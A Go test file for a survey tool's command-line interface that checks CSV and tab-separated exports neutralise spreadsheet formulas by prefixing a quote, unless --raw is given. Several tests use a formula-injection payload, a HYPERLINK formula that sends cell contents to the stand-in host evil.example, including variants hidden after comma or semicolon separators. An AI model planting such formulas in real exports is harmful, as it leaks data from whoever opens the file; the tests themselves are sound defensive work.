package main

import (
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"staffnet/internal/store"
)

const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// TestExportNeutralisesFormulas: the CLI's CSV is safe to open in a
// spreadsheet by default, exact with --raw, and the raw export imports
// back to the same responses. A neutralised export imports too, keeping
// the added quote as part of the answer (documented in
// docs/survey-format.md).
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	dsn := filepath.Join(t.TempDir(), "f.db")
	in := header(t) + "\n" + row(t, map[string]string{"response_id": "a1", "submitted_on": "2016-05-03",
		"benefits_comment": formula, "other_comments": "@SUM(1)", "region": "london"}) + "\n"
	if code, _, errOut := cli(t, "", "responses", "import", "--db", dsn, "--survey", slug, write(t, "in.csv", in)); code != 0 {
		t.Fatalf("import: %s", errOut)
	}
	cells := func(out string) map[string]string {
		t.Helper()
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("export: %d records, %v\n%s", len(recs), err, out)
		}
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = recs[1][i]
		}
		return m
	}
	_, safe, _ := cli(t, "", "responses", "export", "--db", dsn, "--survey", slug)
	if m := cells(safe); m["benefits_comment"] != "'"+formula || m["other_comments"] != "'@SUM(1)" || m["submitted_on"] != "2016-05-03" {
		t.Errorf("default export: %q %q %q", m["benefits_comment"], m["other_comments"], m["submitted_on"])
	}
	_, raw, _ := cli(t, "", "responses", "export", "--db", dsn, "--survey", slug, "--raw")
	if raw != in {
		t.Errorf("raw export differs from the file imported:\n got %q\nwant %q", raw, in)
	}
	again := filepath.Join(t.TempDir(), "again.db")
	if code, _, errOut := cli(t, "", "responses", "import", "--db", again, "--survey", slug, write(t, "raw.csv", raw)); code != 0 {
		t.Fatalf("import of raw export: %s", errOut)
	}
	if _, raw2, _ := cli(t, "", "responses", "export", "--db", again, "--survey", slug, "--raw"); raw2 != raw {
		t.Errorf("raw round trip differs:\n%q\n%q", raw2, raw)
	}
	// A neutralised export is still a valid file; the quote becomes part
	// of the answer.
	third := filepath.Join(t.TempDir(), "third.db")
	if code, _, errOut := cli(t, "", "responses", "import", "--db", third, "--survey", slug, write(t, "safe.csv", safe)); code != 0 {
		t.Fatalf("import of neutralised export: %s", errOut)
	}
	if _, raw3, _ := cli(t, "", "responses", "export", "--db", third, "--survey", slug, "--raw"); cells(raw3)["benefits_comment"] != "'"+formula {
		t.Errorf("neutralised import: %q", cells(raw3)["benefits_comment"])
	}
}

// addContacts stores contact details the way the web form does, and
// releases them at once.
func addContacts(t *testing.T, db *store.DB, cs ...store.Contact) {
	t.Helper()
	ctx := context.Background()
	pool := db.NewContactPool(store.NewContactKey())
	for _, c := range cs {
		if err := pool.Add(c); err != nil {
			t.Fatal(err)
		}
	}
	if err := pool.Spill(ctx); err != nil {
		t.Fatal(err)
	}
	tomorrow := time.Now().UTC().AddDate(0, 0, 1).Format(time.DateOnly)
	if out, err := db.ReleaseContacts(ctx, pool.Key(), store.Release{Before: tomorrow}); err != nil || len(out) != len(cs) {
		t.Fatalf("release: %d, %v", len(out), err)
	}
}

// TestContactsListNeutralisesFormulas: contact details are typed by
// respondents; contacts list quotes a formula unless --raw is given.
func TestContactsListNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	dsn := filepath.Join(t.TempDir(), "c.db")
	db := openStore(t, dsn)
	addContacts(t, db, store.Contact{SurveySlug: slug, Name: formula, Email: "ada@example.nhs.uk", Organisation: "+44 trust"})
	db.Close()
	_, out, _ := cli(t, "", "contacts", "list", "--db", dsn)
	r := csv.NewReader(strings.NewReader(out))
	r.Comma = '\t'
	rec, err := r.Read()
	if err != nil || len(rec) != 4 || rec[2] != "'"+formula || rec[3] != "'+44 trust" {
		t.Errorf("contacts list: %q, %v", rec, err)
	}
	_, out, _ = cli(t, "", "contacts", "list", "--db", dsn, "--raw")
	r = csv.NewReader(strings.NewReader(out))
	r.Comma = '\t'
	if rec, err := r.Read(); err != nil || rec[2] != formula || rec[3] != "+44 trust" {
		t.Errorf("contacts list --raw: %q, %v", rec, err)
	}
}

// TestContactsListFormulaAfterSeparator: contacts list is tab-separated;
// saved as .csv it is split on commas (or semicolons), and a formula after
// one must not run. Each part of every line, split on any of them, must
// not begin as a formula.
func TestContactsListFormulaAfterSeparator(t *testing.T) {
	t.Parallel()
	dsn := filepath.Join(t.TempDir(), "c.db")
	db := openStore(t, dsn)
	org := `x;=HYPERLINK("http://evil.example/?x="&A1,"click")`
	addContacts(t, db, store.Contact{SurveySlug: slug, Name: "Ada,=1+12", Email: "ada@example.nhs.uk", Organisation: org})
	db.Close()
	_, out, _ := cli(t, "", "contacts", "list", "--db", dsn)
	for _, part := range strings.FieldsFunc(out, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
		if p := strings.Trim(strings.TrimLeft(part, " "), `"`); p != "" && strings.ContainsRune("=+-@", rune(p[0])) {
			t.Errorf("contacts list splits into %q, a formula:\n%s", p, out)
		}
	}
	r := csv.NewReader(strings.NewReader(out))
	r.Comma = '\t'
	if rec, err := r.Read(); err != nil || len(rec) != 4 || rec[2] != "Ada,'=1+12" || rec[3] != `x;'=HYPERLINK("http://evil.example/?x="&A1,"click")` {
		t.Errorf("contacts list: %q, %v", rec, err)
	}
	_, out, _ = cli(t, "", "contacts", "list", "--db", dsn, "--raw")
	r = csv.NewReader(strings.NewReader(out))
	r.Comma = '\t'
	if rec, err := r.Read(); err != nil || rec[2] != "Ada,=1+12" || rec[3] != org {
		t.Errorf("contacts list --raw: %q, %v", rec, err)
	}
}
